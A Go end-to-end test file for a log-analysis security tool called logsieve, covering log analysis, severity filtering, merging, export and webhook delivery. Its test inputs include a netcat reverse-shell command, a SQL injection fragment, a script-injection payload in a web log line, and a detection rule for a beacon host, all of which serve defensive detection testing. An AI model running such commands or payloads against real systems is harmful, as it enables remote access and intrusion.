// Package test contains end-to-end pipeline tests that exercise the
// public API the way the CLI does: generate logs, analyze, filter,
// merge, export, and deliver.
package test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/logsieve/logsieve/internal/cli/commands"
	"github.com/logsieve/logsieve/pkg/analyzer"
	"github.com/logsieve/logsieve/pkg/config"
	"github.com/logsieve/logsieve/pkg/detector"
	"github.com/logsieve/logsieve/pkg/output"
	"github.com/logsieve/logsieve/pkg/rules"
	"github.com/logsieve/logsieve/pkg/webhook"
)

func TestPipeline_SampleToReport(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "traffic.log")

	sample := commands.GenerateSampleLogs(500, true, 1234)
	if err := os.WriteFile(logPath, sample, 0o644); err != nil {
		t.Fatal(err)
	}

	a := analyzer.New()
	result, err := a.AnalyzeFile(context.Background(), logPath, 0)
	if err != nil {
		t.Fatalf("AnalyzeFile: %v", err)
	}

	if result.TotalLines != 500 {
		t.Errorf("total lines = %d, want 500", result.TotalLines)
	}
	if result.ParsedLines > result.TotalLines {
		t.Errorf("parsed %d > total %d", result.ParsedLines, result.TotalLines)
	}
	if len(result.Detections) == 0 {
		t.Fatal("attack sample produced no detections")
	}
	for _, d := range result.Detections {
		if d.Confidence < 0.1 || d.Confidence > 1.0 {
			t.Errorf("confidence %f out of bounds", d.Confidence)
		}
	}
	if result.Summary.RiskScore.Score < 0 || result.Summary.RiskScore.Score > 100 {
		t.Errorf("risk score %d out of bounds", result.Summary.RiskScore.Score)
	}
	// Apache lines in the sample carry timestamps, so the timeline
	// must not be empty.
	if len(result.Timeline) == 0 {
		t.Error("expected timeline buckets")
	}

	for _, format := range []string{"json", "csv", "text"} {
		data, err := output.Export(result, format)
		if err != nil {
			t.Errorf("Export(%s): %v", format, err)
		}
		if len(data) == 0 {
			t.Errorf("Export(%s) empty", format)
		}
	}
}

func TestPipeline_FormatDetectionMatchesAnalysis(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "traffic.log")
	sample := commands.GenerateSampleLogs(200, false, 99)
	if err := os.WriteFile(logPath, sample, 0o644); err != nil {
		t.Fatal(err)
	}

	d := detector.New(detector.WithSampleSize(200))
	detection, err := d.DetectFromFile(context.Background(), logPath)
	if err != nil {
		t.Fatalf("DetectFromFile: %v", err)
	}
	if best := detection.BestMatch(); best == nil || best.Format != "apache_access" {
		t.Fatalf("best match = %+v, want apache_access", detection.BestMatch())
	}

	a := analyzer.New()
	result, err := a.AnalyzeFile(context.Background(), logPath, 0)
	if err != nil {
		t.Fatalf("AnalyzeFile: %v", err)
	}
	if result.LogTypes["apache_access"] == 0 {
		t.Errorf("log types = %v, want apache_access entries", result.LogTypes)
	}
}

func TestPipeline_CustomRulesEndToEnd(t *testing.T) {
	dir := t.TempDir()
	rulesPath := filepath.Join(dir, "rules.yaml")
	rulesYAML := `
rules:
  - name: beacon_callback
    description: Callback to known staging host
    severity: critical
    pattern: 'beacon\.corp\.example'
    category: malware
disable:
  - http_error_spike
`
	if err := os.WriteFile(rulesPath, []byte(rulesYAML), 0o644); err != nil {
		t.Fatal(err)
	}

	file, err := config.Load(rulesPath)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}

	a := analyzer.New(
		analyzer.WithCustomRules(file.DetectionRules()),
		analyzer.WithDisabledRules(file.Disable),
	)

	text := strings.Join([]string{
		"connect beacon.corp.example:443",
		`GET /missing HTTP/1.1 404`,
	}, "\n")
	result, err := a.AnalyzeText(context.Background(), text, "custom")
	if err != nil {
		t.Fatalf("AnalyzeText: %v", err)
	}

	var sawCustom, sawDisabled bool
	for _, d := range result.Detections {
		if d.RuleName == "beacon_callback" {
			sawCustom = true
		}
		if d.RuleName == "http_error_spike" {
			sawDisabled = true
		}
	}
	if !sawCustom {
		t.Error("custom rule did not fire")
	}
	if sawDisabled {
		t.Error("disabled rule fired")
	}
}

func TestPipeline_ScanMergeExport(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"web.log":  `192.168.1.1 - - [10/Oct/2023:13:55:36 +0000] "GET /?q=<script>alert(1)</script> HTTP/1.1" 200 99` + "\n",
		"auth.log": "Oct 10 14:02:11 bastion sshd[99]: failed login for root from 203.0.113.8\n",
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	a := analyzer.New()
	results, err := a.AnalyzeDirectory(context.Background(), dir, "*.log", 0)
	if err != nil {
		t.Fatalf("AnalyzeDirectory: %v", err)
	}
	if len(results) != 2 {
		t.Fatalf("results = %d, want 2", len(results))
	}

	merged := analyzer.Merge(results)
	if merged.TotalFiles != 2 {
		t.Errorf("merged files = %d, want 2", merged.TotalFiles)
	}
	if merged.TotalDetections == 0 {
		t.Fatal("expected cross-file detections")
	}
	if len(merged.Timeline) == 0 {
		t.Error("expected merged timeline")
	}

	data, err := json.MarshalIndent(merged, "", "  ")
	if err != nil {
		t.Fatalf("marshaling merged report: %v", err)
	}
	var decoded analyzer.MergedReport
	if err := json.Unmarshal(data, &decoded); err != nil {
		t.Fatalf("unmarshaling merged report: %v", err)
	}
	if decoded.TotalDetections != merged.TotalDetections {
		t.Errorf("round trip changed detections: %d vs %d",
			decoded.TotalDetections, merged.TotalDetections)
	}
}

func TestPipeline_SeverityFilterProperty(t *testing.T) {
	text := strings.Join([]string{
		"GET /missing HTTP/1.1 404",
		"failed login for admin",
		"POST /login HTTP/1.1' OR 1=1--",
		"nc -e /bin/sh 10.0.0.1 4444",
	}, "\n")

	a := analyzer.New()
	result, err := a.AnalyzeText(context.Background(), text, "severity")
	if err != nil {
		t.Fatalf("AnalyzeText: %v", err)
	}

	for _, min := range []rules.Severity{
		rules.SeverityLow, rules.SeverityMedium, rules.SeverityHigh, rules.SeverityCritical,
	} {
		filtered := analyzer.FilterResult(result, min, "")
		for _, d := range filtered.Detections {
			if !d.Severity.AtLeast(min) {
				t.Errorf("min %s kept %s detection", min, d.Severity)
			}
		}
		// Everything at or above the bar survives.
		var want int
		for _, d := range result.Detections {
			if d.Severity.AtLeast(min) {
				want++
			}
		}
		if len(filtered.Detections) != want {
			t.Errorf("min %s: kept %d, want %d", min, len(filtered.Detections), want)
		}
	}
}

func TestPipeline_WebhookDelivery(t *testing.T) {
	var received []byte
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		received, _ = io.ReadAll(r.Body)
		w.WriteHeader(http.StatusOK)
	}))
	defer server.Close()

	a := analyzer.New()
	result, err := a.AnalyzeText(context.Background(), "failed login for admin", "hook")
	if err != nil {
		t.Fatalf("AnalyzeText: %v", err)
	}

	resp := webhook.NewClient().Send(context.Background(), result, webhook.SendOptions{
		URL: server.URL,
	})
	if !resp.Success() {
		t.Fatalf("webhook failed: %v", resp.Error)
	}

	var payload analyzer.AnalysisResult
	if err := json.Unmarshal(received, &payload); err != nil {
		t.Fatalf("payload not JSON: %v", err)
	}
	if len(payload.Detections) != len(result.Detections) {
		t.Errorf("payload detections = %d, want %d",
			len(payload.Detections), len(result.Detections))
	}
}

func TestPipeline_TextReportMentionsEverySection(t *testing.T) {
	a := analyzer.New()
	result, err := a.AnalyzeText(context.Background(),
		"203.0.113.9 failed login failed login failed login", "sections")
	if err != nil {
		t.Fatalf("AnalyzeText: %v", err)
	}

	var buf bytes.Buffer
	f := output.NewTextFormatter(output.FormatOptions{Verbose: true})
	if err := f.Format(context.Background(), result, &buf); err != nil {
		t.Fatalf("Format: %v", err)
	}
	out := buf.String()
	for _, want := range []string{"Risk Score", "Detections", "Suspicious IPs", "Summary"} {
		if !strings.Contains(out, want) {
			t.Errorf("report missing section %q:\n%s", want, out)
		}
	}
}
